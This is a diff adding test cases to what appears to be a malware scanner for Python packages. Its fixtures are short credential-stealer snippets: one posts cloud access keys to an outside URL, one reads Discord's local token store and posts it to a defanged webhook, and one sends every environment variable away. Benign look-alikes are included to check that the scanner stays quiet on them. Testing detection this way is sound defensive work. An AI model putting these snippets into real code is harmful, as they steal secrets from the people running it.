@@ -83,6 +83,38 @@ def test_stealer_is_found_at_high(rule: str, src: str) -> None:
     assert found(src).get(rule) == "high"
 
 
+CLOUD = "exfiltration.cloud-keys"
+
+
+@pytest.mark.parametrize(
+    ("src", "expected"),
+    [
+        # An SDK fork's credentials class sends the pair it is given to a third party.
+        (
+            "import requests\nclass Creds:\n    def __init__(self, ak, secret_access_key):\n"
+            "        self.secret_access_key = secret_access_key\n"
+            "        data = {'ak': ak, 'sk': self.secret_access_key}\n"
+            f"        requests.post(url={URL!r}, json=data)\n",
+            "high",
+        ),
+        # The cloud's own token service: the SDK's business.
+        (
+            "import requests\ndef token(access_key_secret):\n"
+            "    requests.post('https://sts.aliyuncs.com/', data={'s': access_key_secret})\n",
+            None,
+        ),
+        # An address the caller configured.
+        (
+            "import requests\ndef push(endpoint, access_key_secret):\n"
+            "    requests.post(endpoint, json={'secret': access_key_secret})\n",
+            None,
+        ),
+    ],
+)
+def test_cloud_keys_sent_to_a_third_party(src: str, expected: str | None) -> None:
+    assert found(src).get(CLOUD) == expected
+
+
 def test_stealer_on_import_is_critical() -> None:
     src = (
         "import requests\nimport wallet_config\n"
@@ -149,3 +181,45 @@ BENIGN = [
 )
 def test_benign_look_alike_is_quiet(rule: str, src: str) -> None:
     assert rule not in found(src)
+
+
+HOOK = "https://discord.com/api/webhooks/000000/defanged-token"
+
+
+def test_unparsed_stealer_is_read_at_byte_level() -> None:
+    # A stray quote keeps it from parsing (so it never runs as written, but the next
+    # release fixes the quote): its targets and its channel are still in the text.
+    src = (
+        f"import os, requests\nHOOK = '{HOOK}'\nprint 'x\n"
+        "def grab():\n    p = os.getenv('APPDATA') + '/discord/Local Storage/leveldb'\n"
+        "    requests.post(HOOK, json={'content': open(p).read()})\n"
+    )
+    hits = {
+        f.rule: f for f in analyse_member(FileContext("pkg/mod.py", "wheel", True), src.encode())
+    }
+    assert "parse.not-parsed" in hits
+    assert hits["exfiltration.credentials"].severity is Severity.HIGH
+
+
+@pytest.mark.parametrize(
+    "src",
+    [
+        # A webhook notifier that does not parse, and names no stolen data.
+        f"import requests\nprint 'x\nrequests.post('{HOOK}', json={{'content': 'build done'}})\n",
+        # Browser paths in an unparsed file with no channel to send them to.
+        "print 'x\nPATH = '/discord/Local Storage/leveldb'\nimport requests\nrequests.post(u, data=d)\n",
+    ],
+)
+def test_unparsed_look_alikes_are_not_stealers(src: str) -> None:
+    assert "exfiltration.credentials" not in found(src)
+
+
+def test_a_main_written_above_its_helpers_links_their_flow() -> None:
+    src = (
+        "import os, json, urllib.request\n"
+        "def main():\n    data = {}\n    data['env'] = collect()\n    push(data)\n"
+        "def collect():\n    return dict(os.environ)\n"
+        "def push(data):\n"
+        f"    urllib.request.urlopen({URL!r}, json.dumps(data).encode())\n"
+    )
+    assert "exfiltration.credentials" in found(src)
